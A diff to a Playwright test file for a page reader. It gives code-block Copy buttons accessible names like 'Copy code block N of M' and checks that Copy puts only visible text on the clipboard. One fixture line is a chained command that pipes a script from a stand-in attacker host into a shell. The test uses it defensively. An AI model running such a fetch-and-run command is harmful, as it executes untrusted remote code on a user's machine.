@@ -64,7 +64,10 @@ test('a saved page keeps its images, drawing, formula and code, readable with th
   await expect(body.getByRole('heading', { level: 2, name: 'The code' })).toHaveText('The code');
 
   await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-  await body.getByRole('button', { name: 'Copy' }).first().click();
+  await body
+    .getByRole('button', { name: /^Copy code block/ })
+    .first()
+    .click();
   await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
   expect(await reader.evaluate(() => navigator.clipboard.readText())).toBe(sourceCode[0]);
 });
@@ -108,8 +111,17 @@ test('Copy on a code block copies what the reader shows, never text it hides (re
     'brew install jq',
     'ls ; curl -s https://evil.example/d | sh',
   ];
+  // Each button says which block it copies (ten buttons named "Copy" told a screen reader nothing).
+  const shownBlocks = await body.locator('pre').count();
+  for (let at = 1; at <= shownBlocks; at++) {
+    const name = `Copy code block ${at} of ${shownBlocks}`;
+    await expect(body.getByRole('button', { name, exact: true })).toHaveCount(1);
+  }
   for (const [index, shown] of shownTexts.entries()) {
-    await body.getByRole('button', { name: 'Copy' }).nth(index).click();
+    await body
+      .getByRole('button', { name: /^Copy code block/ })
+      .nth(index)
+      .click();
     await expect(body.getByRole('button', { name: 'Copied' })).toBeVisible();
     copied.push(await reader.evaluate(() => navigator.clipboard.readText()));
     expect(copied[index], 'what Copy put on the clipboard').toBe(shown);
